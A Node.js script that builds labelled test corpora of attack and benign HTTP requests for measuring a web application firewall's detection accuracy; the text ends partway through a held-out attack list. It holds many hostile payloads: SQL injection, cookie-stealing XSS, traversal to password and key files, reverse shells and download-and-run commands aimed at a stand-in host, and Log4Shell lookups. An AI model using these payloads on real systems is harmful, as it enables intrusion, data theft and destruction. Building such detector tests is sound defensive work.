#!/usr/bin/env node
// Writes the http_waf accuracy corpora: attacks.jsonl (labelled attacks) and
// benign.jsonl (ordinary traffic). Each line is one request:
//   {"id", "label", "method", "target", "headers"?, "body"?}
// The payloads are hand-written; this script only places them in realistic
// spots (query, path, form, JSON, cookie, headers) and encodings (raw, percent,
// '+' forms, double encoding), deterministically, so the files can be
// regenerated and diffed. Run: node test/data/http/make-corpus.mjs
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));

let seed = 20261122;
function rand() {
  seed = (seed + 0x6d2b79f5) >>> 0;
  let t = seed;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const pick = (a) => a[Math.floor(rand() * a.length)];

// What a browser or client leaves unencoded in a query value, plus the bytes that would break the request line.
function light(s) {
  return s.replace(/[%&#+ \r\n"<>`{}|\\^\t]/g, (c) => '%' + c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0'));
}
const full = (s) => encodeURIComponent(s);
const form = (s) => encodeURIComponent(s).replace(/%20/g, '+');
const double = (s) => encodeURIComponent(encodeURIComponent(s));

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67',
  'curl/8.5.0',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  'okhttp/4.12.0',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'PostmanRuntime/7.37.3',
];
const HOSTS = ['shop.example', 'www.example.org', 'api.example.net', 'forum.example.com', 'intranet.example'];

function req(label, method, target, extra = {}) {
  const headers = { Host: pick(HOSTS), 'User-Agent': pick(UAS), Accept: '*/*', ...(extra.headers ?? {}) };
  const r = { label, method, target, headers };
  if (extra.body !== undefined) {
    r.body = extra.body;
    if (!Object.keys(headers).some((k) => k.toLowerCase() === 'content-type')) headers['Content-Type'] = 'application/x-www-form-urlencoded';
  }
  return r;
}

// ---------------------------------------------------------------- attacks
const attacks = [];
const A = (label, method, target, extra) => attacks.push(req(label, method, target, extra));

const SQLI = [
  "' OR '1'='1", "' OR 1=1--", '" OR "1"="1', "admin'--", "admin' #", "' UNION SELECT username, password FROM users--",
  '1 UNION ALL SELECT NULL,NULL,NULL--', '-1 UNION SELECT 1,2,3,version()', "1' AND SLEEP(5)--", '1 AND SLEEP(5)',
  '1; DROP TABLE users--', "1'; DROP TABLE users; --", "' AND 1=CONVERT(int,(SELECT @@version))--",
  "1' AND extractvalue(1,concat(0x7e,(select version())))--", '1 AND updatexml(1,concat(0x7e,user()),1)',
  "') OR ('1'='1", "')) OR (('x'='x", '1) OR (1=1', "1' ORDER BY 5--", '1 ORDER BY 10--', "' OR ''='",
  "x' AND 1=(SELECT COUNT(*) FROM tabname); --", "1; WAITFOR DELAY '0:0:5'--", "1' WAITFOR DELAY '0:0:5'--",
  "'; EXEC xp_cmdshell('dir')--", '1 AND 1=1', '1 OR 1=1', "' OR 'a'='a", "1' AND 'a'='a", "' HAVING 1=1--",
  "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
  '1/**/UNION/**/SELECT/**/1,2,3', "1'/**/OR/**/'1'='1", '1 /*!50000UNION*/ /*!50000SELECT*/ 1,2',
  "' or benchmark(10000000,MD5(1))#", "1' or pg_sleep(5)--", '1;select pg_sleep(5)', "' || (select 1)--",
  '1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))',
  "-1' union select 1,group_concat(table_name),3 from information_schema.tables--",
  "' AND 1=2 UNION SELECT 1,@@version--", "%' AND 1=1 AND '%'='", '1 AND ASCII(SUBSTRING((SELECT database()),1,1))>64',
  "admin') OR ('1'='1'--", "1' AnD 1=1 aNd '1'='1", "1 oR 1=1#", "' or 1 in (select @@version)--",
  "1' and 1=1 union select null,table_name from information_schema.tables--", "1 and (select sleep(5))",
];
SQLI.forEach((p, i) => {
  switch (i % 6) {
    case 0: A('sqli', 'GET', `/products?category=shoes&id=${light(p)}`); break;
    case 1: A('sqli', 'GET', `/search?q=${full(p)}&page=1`); break;
    case 2: A('sqli', 'POST', '/login', { body: `username=${form(p)}&password=hunter2` }); break;
    case 3: A('sqli', 'POST', '/api/v1/orders/search', { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ customer: p, limit: 10 }) }); break;
    case 4: A('sqli', 'GET', '/account', { headers: { Cookie: `session=5f2b9c1d; user_id=${full(p)}` } }); break;
    case 5: A('sqli', 'GET', `/item?sku=${double(p)}`); break;
  }
});
// a second placement for the classic ones so each form appears raw and encoded
SQLI.slice(0, 20).forEach((p) => A('sqli', 'GET', `/news/article.php?id=${form(p)}`));

const XSS = [
  '<script>alert(1)</script>', '<script src=//198.18.0.66/x.js></script>', '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(document.cookie)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)>', "<body onload=alert('XSS')>",
  '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(1)">click</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', 'javascript:alert(document.domain)',
  '"><script>alert(1)</script>', "'><img src=x onerror=prompt(1)>", '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)">', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src=javascript:alert(1)>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '";alert(1)//',
  "';alert(String.fromCharCode(88,83,83))//", "'-alert(1)-'", '\\";alert(1);//', '</script><script>alert(1)</script>',
  '<marquee onstart=alert(1)>', '<div style="background:url(javascript:alert(1))">', '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><input type=submit>', '<button formaction=javascript:alert(1)>x</button>',
  '<isindex type=image src=1 onerror=alert(1)>', '<x contenteditable onblur=alert(1)>lose focus!', '<scr<script>ipt>alert(1)</script>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', 'data:text/html,<script>alert(1)</script>',
  '<img src="x" onerror="fetch(\'//198.18.0.66/?c=\'+document.cookie)">', '<body background="javascript:alert(1)">',
  '<a href=" javascript:alert(1)">x</a>', '<ScRiPt>confirm`1`</ScRiPt>', '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  "\"-confirm(1)-\"", '<svg><script>alert&#40;1&#41;</script>', '<iframe srcdoc="<script>alert(1)</script>">',
];
XSS.forEach((p, i) => {
  switch (i % 5) {
    case 0: A('xss', 'GET', `/search?q=${light(p)}`); break;
    case 1: A('xss', 'GET', `/comments?author=guest&text=${full(p)}`); break;
    case 2: A('xss', 'POST', '/guestbook', { body: `name=visitor&message=${form(p)}` }); break;
    case 3: A('xss', 'POST', '/api/profile', { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ displayName: p, bio: 'hello' }) }); break;
    case 4: A('xss', 'GET', `/redirect?next=${double(p)}`); break;
  }
});
XSS.slice(0, 12).forEach((p) => A('xss', 'GET', '/', { headers: { Referer: `https://${pick(HOSTS)}/?ref=${p}` } }));

const TRAVERSAL_ARGS = [
  '../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%252f..%252f..%252fetc%252fpasswd',
  '%252e%252e%252fetc%252fpasswd', '..%c0%af..%c0%afetc/passwd', '..%c1%9c..%c1%9cboot.ini', '....//....//....//etc/passwd',
  '..\\..\\..\\windows\\win.ini', '..%5c..%5c..%5cwindows%5cwin.ini', '/etc/passwd', 'file:///etc/passwd',
  'php://filter/convert.base64-encode/resource=index.php', '%u002e%u002e%u002fetc%u002fpasswd', '%uff0e%uff0e/%uff0e%uff0e/etc/shadow',
  '....%2f....%2fetc/passwd', '../../../../proc/self/environ', '../../../.ssh/id_rsa', '../../WEB-INF/web.xml', '../../../../var/log/apache2/access.log',
  '..%2F..%2F..%2F..%2Fetc%2Fshadow', '%2e%2e/%2e%2e/%2e%2e/etc/hosts', '..%255c..%255c..%255cwindows%255cwin.ini',
  '/../../../../../../etc/passwd', '../../../../../../../../../../etc/passwd%00.jpg', '..%00/..%00/etc/passwd',
  '....\\/....\\/etc/passwd', '../.env', '../../wp-config.php', '%2e%2e%5c%2e%2e%5cboot.ini',
];
const TRAVERSAL_PARAMS = ['file', 'page', 'template', 'path', 'doc', 'include', 'lang', 'img'];
TRAVERSAL_ARGS.forEach((p, i) => {
  const name = TRAVERSAL_PARAMS[i % TRAVERSAL_PARAMS.length];
  const v = /%|\\/.test(p) ? p.replace(/\\/g, '%5C') : light(p);
  A('traversal', 'GET', `/download.php?${name}=${v}`);
  if (i % 3 === 0) A('traversal', 'POST', '/render', { body: `${name}=${/%/.test(p) ? p : form(p)}&format=html` });
  if (i % 4 === 1) A('traversal', 'GET', '/preferences', { headers: { Cookie: `theme=light; ${name}=${v}` } });
});
const TRAVERSAL_PATHS = [
  '/static/../../../etc/passwd', '/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd', '/images/..%c0%af..%c0%af..%c0%afetc/passwd', '/app/..;/..;/manager/html',
  '/files/..%252f..%252f..%252fetc/passwd', '/scripts/..%5c../winnt/system32/cmd.exe', '/assets/%2e%2e%5c%2e%2e%5cwindows/win.ini',
  '/a/b/../../../../etc/group', '/%2e%2e/%2e%2e/%2e%2e/etc/issue', '/docs/..%u2215..%u2215etc/passwd'.replace('%u2215', '%u002f').replace('%u2215', '%u002f'),
  '/public/....//....//etc/passwd'.replace('....//....//', '../../'), '/.%2e/.%2e/.%2e/etc/passwd',
];
TRAVERSAL_PATHS.forEach((p) => A('traversal', 'GET', p));

const CMDI = [
  '127.0.0.1; cat /etc/passwd', '127.0.0.1 | id', '127.0.0.1 && whoami', '127.0.0.1 || uname -a', ';ls -la', '| nc 198.18.0.66 4444 -e /bin/sh',
  '`id`', '$(whoami)', '; wget http://198.18.0.66/x.sh -O /tmp/x.sh; sh /tmp/x.sh', '\nid', '\n/bin/cat /etc/passwd',
  ';${IFS}cat${IFS}/etc/passwd', '|curl${IFS}198.18.0.66', '127.0.0.1&&ping -c 3 198.18.0.66', '; sleep 5', '& ping -n 5 127.0.0.1 &',
  ";w'h'o'am'i", ';/usr/bin/id', '| powershell -nop -c "iex(New-Object Net.WebClient).DownloadString(\'http://198.18.0.66/a\')"',
  '& cmd.exe /c dir', '`curl 198.18.0.66`', '$(curl -s 198.18.0.66/x|sh)', ';bash -i >& /dev/tcp/198.18.0.66/4444 0>&1',
  'a;python -c \'import os;os.system("id")\'', 'x|busybox telnet 198.18.0.66 23', 'test.txt; rm -rf /tmp/cache', '1.1.1.1;echo $PATH',
  'foo$(sleep 10)', '|| ping -c 10 127.0.0.1 ||', '; cat /etc/shadow #', 'google.com; nslookup x.198.18.0.66.nip.io',
  '`cat /etc/passwd`', 'a && tftp -i 198.18.0.66 GET evil.exe', '| ifconfig', 'file.png;chmod 777 /tmp/x',
  ';perl -e \'print "x"\'', '$(uname -a)', '& type C:\\Windows\\win.ini', '|whoami', '%0Aid',
];
const CMD_PARAMS = ['host', 'ip', 'target', 'domain', 'filename', 'cmd', 'addr'];
CMDI.forEach((p, i) => {
  const name = CMD_PARAMS[i % CMD_PARAMS.length];
  switch (i % 4) {
    case 0: A('cmdi', 'GET', `/tools/ping?${name}=${light(p)}`); break;
    case 1: A('cmdi', 'GET', `/diag?${name}=${full(p)}`); break;
    case 2: A('cmdi', 'POST', '/admin/network', { body: `${name}=${form(p)}&submit=Run` }); break;
    case 3: A('cmdi', 'POST', '/api/exec', { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ [name]: p }) }); break;
  }
});
CMDI.slice(0, 12).forEach((p) => A('cmdi', 'GET', `/cgi-bin/status?${pick(CMD_PARAMS)}=${double(p)}`));

const JNDI = [
  '${jndi:ldap://198.18.0.66:1389/a}', '${jndi:rmi://198.18.0.66/obj}', '${jndi:dns://198.18.0.66/x}', '${${lower:j}ndi:ldap://198.18.0.66/a}',
  '${${::-j}${::-n}${::-d}${::-i}:ldap://198.18.0.66/a}', '${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://198.18.0.66/a}',
  '${j${::-n}di:ldap://198.18.0.66/a}', '${${upper:j}ndi:ldap://198.18.0.66/a}', '${jNdI:LdAp://198.18.0.66/a}',
  '${${lower:jndi}:${lower:rmi}://198.18.0.66/a}', '${${::-j}ndi:rmi://198.18.0.66/a}', '${jndi:${lower:l}${lower:d}a${lower:p}://198.18.0.66/a}',
  "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.18.0.66/a}", '${jndi:ldaps://198.18.0.66/a}', '${jndi:iiop://198.18.0.66/a}',
  '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.18.0.66/a}', '${jndi:nis://198.18.0.66/a}', '${jndi:corba://198.18.0.66/a}',
  '${${lower:${lower:jndi}}:${lower:ldap}://198.18.0.66/a}', '${ jndi:ldap://198.18.0.66/a}',
];
const JNDI_HEADERS = ['User-Agent', 'X-Api-Version', 'Referer', 'X-Forwarded-For', 'Authorization', 'X-Request-Id', 'Accept-Language'];
JNDI.forEach((p, i) => {
  A('jndi', 'GET', '/', { headers: { [JNDI_HEADERS[i % JNDI_HEADERS.length]]: p } });
  A('jndi', 'GET', `/login?user=${full(p)}`);
  if (i % 2 === 0) A('jndi', 'POST', '/api/feedback', { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ message: p }) });
  if (i % 3 === 0) A('jndi', 'GET', '/home', { headers: { Cookie: `lang=en; tracking=${p}` } });
});

const SCANNERS = [
  'sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'Mozilla/5.0 zgrab/0.x', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)',
  'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 'gobuster/3.6', 'Fuzz Faster U Fool v2.1.0-dev', 'Wfuzz/3.1.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0 Safari/537.36 Acunetix-Agent',
  'Mozilla/5.0 (compatible; Netsparker)', 'w3af.org', 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)', 'Nessus SOAP', 'Arachni/v1.5.1',
  'Mozilla/5.0 SF/2.10b (Skipfish)', 'WhatWeb/0.5.5', 'ZmEu', 'Havij', 'commix/v3.8 (https://commixproject.com)', 'Mozilla/5.0 (compatible; Dalfox)',
  'feroxbuster/2.10.0', 'Mozilla/5.0 (X11; Linux x86_64) dirsearch', 'Wapiti/3.1.8', 'Mozilla/5.0 (l9explore/1.2.2)', 'XSStrike/3.1.5',
  'Mozilla/5.0 (compatible; Jorgee)', 'sqlmap/1.8#stable (http://sqlmap.org)',
];
const SCAN_PATHS = ['/', '/admin/', '/wp-login.php', '/.git/HEAD', '/phpmyadmin/', '/robots.txt', '/server-status', '/index.php?id=1'];
SCANNERS.forEach((ua, i) => {
  A('scanner', 'GET', SCAN_PATHS[i % SCAN_PATHS.length], { headers: { 'User-Agent': ua } });
  A('scanner', 'HEAD', SCAN_PATHS[(i + 3) % SCAN_PATHS.length], { headers: { 'User-Agent': ua } });
});

// ---------------------------------------------------------------- benign
const benign = [];
const B = (kind, method, target, extra) => benign.push({ ...req('benign', method, target, extra), kind });

const SEARCHES = [
  "O'Reilly", "O'Reilly books on SQL", "Tom's Hardware review", "rock 'n' roll history", "don't stop believin'", "McDonald's near me",
  '5\' 10" height in cm', "80's music playlist", '"star wars" OR "star trek"', 'c++ vs c#', 'what is 2+2', 'price < 100', 'a & b',
  'R&D jobs', 'salt & pepper shakers', 'Q&A forum', 'cats and dogs', 'select a color palette', 'drop shipping business', 'union station chicago',
  'order by date', '1 or 2 bedroom apartment', 'how to use ../ in html links', 'ls command meaning', "Levi's 501 jeans", "Ben & Jerry's ice cream",
  'AT&T customer service', 'Dr. Pepper', '5" screen phones', 'weather tomorrow', 'best laptop 2024', "it's raining cats and dogs", 'update windows 11',
  'delete facebook account', "children's books", 'café au lait recipe', 'naïve bayes classifier', 'über eats promo', '東京 天気', 'Москва новости',
  'script writing tips', 'alert dialog design', 'iframe vs embed', 'javascript tutorial for beginners', "Guns N' Roses", 'Mother\'s Day gifts',
  'size 10 or 12', 'from scratch pizza dough', 'where to buy', 'table tennis rules', 'drop table leaf', 'sleep apnea symptoms', 'echo dot setup',
  'ping pong table', 'cat food brands', 'who am i', 'id card renewal', 'nc state university', 'curl hair tutorial', 'bash birthday party',
  'the "best" pizza in town', "can't login to my account", "won't start car", 'email me at jo@example.com', '50% off sale', '#hashtag ideas',
  'mean = (a+b)/2', 'x > 5 and y < 3', 'C:\\Program Files', '/home/user docs', 'version 1.2.3 release notes', "what's new in node 20",
  'book "The Hitchhiker\'s Guide"', "it's 5 o'clock somewhere", "rock'n'roll", 'ORDER BY clause explained', 'javascript void 0 meaning',
  'kill bill movie', 'time zone converter', 'env variables windows', 'type 2 diabetes diet', 'find my phone', 'set up printer', 'more or less',
  'tail of two cities', 'head and shoulders shampoo', 'touch screen not working', 'mail merge word', 'exec summary template', 'host a party',
  'dig a hole', 'awk and sed tutorial', 'sudo meaning', 'su-35 jet', 'ssh keys github', 'python list comprehension', 'perl jam',
  'ruby slippers', 'php vs node', 'net worth calculator', 'dir en grey', 'print shop near me', 'confirm email address', 'prompt engineering',
  'eval function python', 'fetch api example', 'import tax uk', 'document scanner app', 'window cleaning', 'string theory',
];
const SEARCH_PATHS = ['/search', '/s', '/find', '/shop/search', '/forum/search.php', '/api/v2/search'];
SEARCHES.forEach((q, i) => {
  B('search', 'GET', `${SEARCH_PATHS[i % SEARCH_PATHS.length]}?q=${form(q)}`);
  B('search', 'GET', `${SEARCH_PATHS[(i + 1) % SEARCH_PATHS.length]}?q=${full(q)}&page=${1 + (i % 5)}&sort=relevance`);
  B('search', 'POST', '/search', { body: `q=${form(q)}&lang=en` });
  if (i % 2 === 0) B('search', 'GET', `/results?query=${light(q)}`);
  if (i % 3 === 0) B('search', 'POST', '/api/search', { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ query: q, filters: { inStock: true }, limit: 20 }) });
});

const PRICES = [['19.99', '199.99'], ['0', '50'], ['1,299.00', '2,499.00'], ['-10', '10'], ['5.5', '7.25'], ['100', '1000']];
const BRANDS = ["Levi's", 'Acme & Co', 'Ben & Jerry\'s', 'H&M', 'Marks & Spencer', 'Dr. Martens', 'Nike', 'Procter & Gamble', "Kellogg's", '3M'];
for (let i = 0; i < 90; i++) {
  const [lo, hi] = PRICES[i % PRICES.length];
  const brand = BRANDS[i % BRANDS.length];
  B('price', 'GET', `/products?min_price=${full(lo)}&max_price=${full(hi)}&currency=${pick(['USD', 'EUR', 'GBP'])}&brand=${full(brand)}&sort=${pick(['price_asc', 'price_desc', 'newest'])}`);
  if (i % 3 === 0) B('price', 'GET', `/cart/update?item=${1000 + i}&qty=${1 + (i % 4)}&price=$${lo}&discount=${full('-10%')}`);
}

const JSON_BODIES = [
  { name: "Tom O'Brien", email: 'tom.obrien@example.com', age: 42, tags: ['vip', 'newsletter'] },
  { query: 'select best laptop 2024', limit: 10, offset: 0 },
  { comment: "I can't believe it's not butter! 10/10 would buy again.", rating: 5 },
  { address: "123 O'Connell St., Apt #4", city: "St. John's", zip: 'A1C 5M2' },
  { title: 'Release 2.0', body: 'Fixed: x < y && y > z comparisons; improved ../relative path handling in docs.' },
  { items: [{ sku: 'A-100', qty: 2, price: 19.99 }, { sku: 'B-200', qty: 1, price: 5 }], coupon: 'SAVE-10%' },
  { password: "P@ss'w0rd\"!", username: 'alice' },
  { note: 'Meeting at 5 o\'clock; bring the "Q3" slides & the budget.' },
  { search: { text: 'rock & roll', from: '2024-01-01', to: '2024-12-31' } },
  { code: 'function add(a, b) { return a + b; }', language: 'javascript' },
  { description: 'Union Square store, open 9-5 Mon-Fri; closed on holidays.', phone: '+1 (555) 010-2368' },
  { bio: 'Developer. I <3 TypeScript. Opinions are my own.', website: 'https://example.dev' },
  { message: 'Please update my order #1234 — I selected the wrong size (10 instead of 12).' },
  { filter: 'status = "open" and priority >= 2', sort: '-created' },
  { html: '<p>Hello <b>world</b>, see <a href="https://example.com/docs">the docs</a>.</p>' },
];
JSON_BODIES.forEach((b, i) => {
  for (let k = 0; k < 6; k++) {
    B('json', pick(['POST', 'PUT', 'PATCH']), `/api/v${1 + (k % 2)}/${['users', 'comments', 'orders', 'notes', 'posts', 'profiles'][k]}/${100 + i * 7 + k}`,
      { headers: { 'Content-Type': 'application/json', Authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl' }, body: JSON.stringify(b) });
  }
});

const FORUM_POSTS = [
  "Hi all,\nI'm trying to loop over an array in JS:\n\nfor (let i = 0; i < arr.length; i++) {\n  console.log(arr[i]);\n}\n\nWhy doesn't it print anything?",
  'In Python you can do:\n\nresult = [x * 2 for x in range(10) if x % 2 == 0]\nprint(result)\n\nHope that helps!',
  "Use <b>bold</b> and <i>italic</i> tags, or markdown **bold**. Links: <a href=\"https://example.org/guide\">guide</a>.",
  'if (x < 10 && y > 5) { doSomething(); } else { other(); }',
  "My C code:\n#include <stdio.h>\nint main(void) { printf(\"it's %d\\n\", 42); return 0; }",
  "Don't use == in JS, use ===. Also a || b returns the first truthy value.",
  'Run npm install --save-dev typescript and then npx tsc --init to get started.',
  "The path is relative: ./assets/img/logo.png (one level up would be ../img).",
  "SQL tip: always use parameterised queries instead of building strings with quotes. It's safer.",
  "Great post! I'd add that O'Reilly's book covers this in chapter 5; see page 120-130.",
  'Question: how do I convert 5\' 10" to centimetres? Is it 177.8 cm?',
  "Set your PATH in ~/.bashrc and restart the terminal; then echo the variable to check it's set.",
  "Thanks!!! :) This fixed it & saved my day; I'd been stuck for hours.",
  'Use git status, then git add -A, then git commit -m "message" — easy.',
  "Price comparison: $19.99 vs $24.99 (that's 25% more) — worth it for the warranty?",
  "Math: (a + b)^2 = a^2 + 2ab + b^2, and 1/2 + 1/3 = 5/6.",
  'Config example:\nserver {\n  listen 80;\n  location / { proxy_pass http://backend; }\n}',
  "Lorem ipsum dolor sit amet, consectetur adipiscing elit; sed do eiusmod tempor.\nUt enim ad minim veniam, quis nostrud.",
  "x = y ? 'yes' : 'no'; // ternary in JS",
  "My favourite bands: Guns N' Roses, AC/DC, Simon & Garfunkel, and The Who.",
];
FORUM_POSTS.forEach((post, i) => {
  for (let k = 0; k < 5; k++) {
    B('forum', 'POST', `/forum/thread/${2000 + i}/reply`, { body: `subject=${form(`Re: question #${i + 1}`)}&body=${form(post)}&notify=${k % 2 ? 'on' : 'off'}&csrf=${(i * 7919 + k * 104729).toString(36)}` });
  }
  B('forum', 'GET', `/forum/preview?text=${full(post.slice(0, 120))}`);
});

const PATHS = [
  '/', '/index.html', '/static/js/app.min.js', '/static/css/main.5f2b9c1d.css', '/files/report.v2.final.pdf', '/.well-known/security.txt',
  '/api/v1.2/users', '/archive/2023.10.01/', '/~alice/page.html', '/wiki/Main_Page', '/wiki/C%2B%2B', "/blog/2024/05/don't-panic",
  '/search/O\'Reilly', '/images/photo.jpg?w=640&h=480', '/docs/api/v3/README.md', '/favicon.ico', '/robots.txt', '/sitemap.xml',
  '/assets/fonts/Inter-Regular.woff2', '/products/shoes/running/nike-air-zoom-pegasus-40', '/a/b/c/d/e/f.html', '/files/archive.tar.gz',
  '/user/settings#profile', '/en-US/docs/Web/JavaScript', '/downloads/setup-1.0.3.exe', '/node_modules/.bin/', '/path/with%20space/file.txt',
  '/café/menu', '/%E6%9D%B1%E4%BA%AC/guide', '/releases/v2.0.0-rc.1', '/logo.svg', '/api/health', '/metrics', '/static/../static/ok.css'.replace('../static/', ''),
  '/reports/Q3...Q4.pdf', '/dots..in..name/index.html', '/...', '/a.b.c/d.e.f', '/file.name.with.many.dots.txt',
];
PATHS.forEach((p, i) => {
  B('path', 'GET', p);
  B('path', 'GET', p, { headers: { Referer: `https://${HOSTS[i % HOSTS.length]}/search?q=${form(SEARCHES[i % SEARCHES.length])}` } });
  B('path', 'HEAD', p);
});

const COOKIES = [
  'session=abc123; theme=dark', 'cart=%7B%22items%22%3A3%7D; currency=EUR', "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000",
  'prefs=lang%3Den%26tz%3DEurope%2FBerlin', "name=O'Neil; remember=1", 'consent=true; last_search=rock+%26+roll',
  'csrftoken=Zm9vYmFyYmF6cXV4; sessionid=7d2f1c0e', 'token=eyJhbGciOiJIUzI1NiJ9.eyJ1IjoxfQ.sig', 'ab_test=variant-b; seen_banner=2024-05-01',
];
COOKIES.forEach((c, i) => {
  for (let k = 0; k < 6; k++) B('cookie', 'GET', `/account/${['orders', 'wishlist', 'settings', 'overview', 'messages', 'billing'][k]}?tab=${k}`, { headers: { Cookie: c } });
});

const FORMS = [
  (i) => `username=user${i}&password=${form(`S3cr3t!@#${i}`)}&remember=on`,
  (i) => `email=${form(`o'neil.${i}@example.com`)}&subject=${form("Question about my order")}&message=${form(`Hi, it's me again; order #${i} hasn't arrived. Thanks!`)}`,
  (i) => `first_name=${form("D'Angelo")}&last_name=${form('Smith-Jones')}&address=${form(`${i} O'Connell St., Apt #${i % 9}`)}&city=${form("Coeur d'Alene")}&zip=83814`,
  (i) => `q=${form(`size ${8 + (i % 6)} or ${9 + (i % 6)}`)}&color=${form(pick(['red', 'navy blue', 'black & white']))}`,
  (i) => `comment=${form(pick(['Great product!', "Works as advertised; wouldn't buy again though.", 'Arrived in 2-3 days.', '5/5 — love it <3', 'Meh. 3 stars.']))}&rating=${1 + (i % 5)}`,
  (i) => `amount=${form(`$${(i * 13.37).toFixed(2)}`)}&note=${form(`Rent for ${pick(['May', 'June'])} (split 50/50)`)}`,
  (i) => `title=${form(`Meeting notes ${i}`)}&body=${form('Agenda:\n1. Budget & hiring\n2. Q&A\n3. Next steps -> ship v2.0')}`,
  (i) => `redirect=${full(`https://example.com/home?a=${i}&b=2`)}&next=${full('/account/settings')}`,
  (i) => `date=${full('2024-05-01T10:00:00+02:00')}&tz=${full('America/New_York')}&expr=${full('3*(4+5)/2')}`,
  (i) => `search=${form(SEARCHES[(i * 7) % SEARCHES.length])}&category=all`,
];
for (let i = 0; i < 150; i++) B('form', 'POST', ['/login', '/contact', '/checkout/address', '/filter', '/review', '/pay', '/notes', '/auth/callback', '/calendar', '/search'][i % 10], { body: FORMS[i % FORMS.length](i) });

// GET query strings of ordinary apps
for (let i = 0; i < 60; i++) {
  B('query', 'GET', `/api/items?page=${i}&per_page=${pick([10, 20, 50])}&fields=${full('id,name,price')}&filter[status]=active&include=author.profile`);
  if (i % 2 === 0) B('query', 'GET', `/maps?lat=${(47.6 + i / 100).toFixed(4)}&lng=${(-122.3 - i / 100).toFixed(4)}&zoom=${10 + (i % 8)}&q=${form(pick(["Pike Place Market", "Tom's Diner", 'Union Station', "St. Mary's Hospital"]))}`);
  if (i % 3 === 0) B('query', 'GET', `/calendar?from=2024-0${1 + (i % 9)}-01&to=2024-0${1 + (i % 9)}-28&view=month&tz=${full('Europe/London')}`);
}


// ---------------------------------------------------------------- held out
// Written after the detectors were tuned on the sets above and never used to
// tune them: their figures estimate accuracy on traffic the rules were not fitted to.
const holdAttacks = [];
const HA = (label, method, target, extra) => holdAttacks.push(req(label, method, target, extra));
[
  "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT version()),0x71))s), 8446744073709551610, 8446744073709551610)))-- x",
  "' OR EXISTS(SELECT * FROM users WHERE name='admin')--", '99999 UNION SELECT table_name FROM information_schema.tables',
  "abc' OR 'x'='x'; --", "'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'", '2 AND 3>2', "\" or 1=1 limit 1 -- -", "1'))) OR 1=1#",
  "'; SHUTDOWN WITH NOWAIT; --", "1 AND (SELECT * FROM (SELECT(SLEEP(3)))abc)", "name' AND ASCII(LOWER(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1)))>116--",
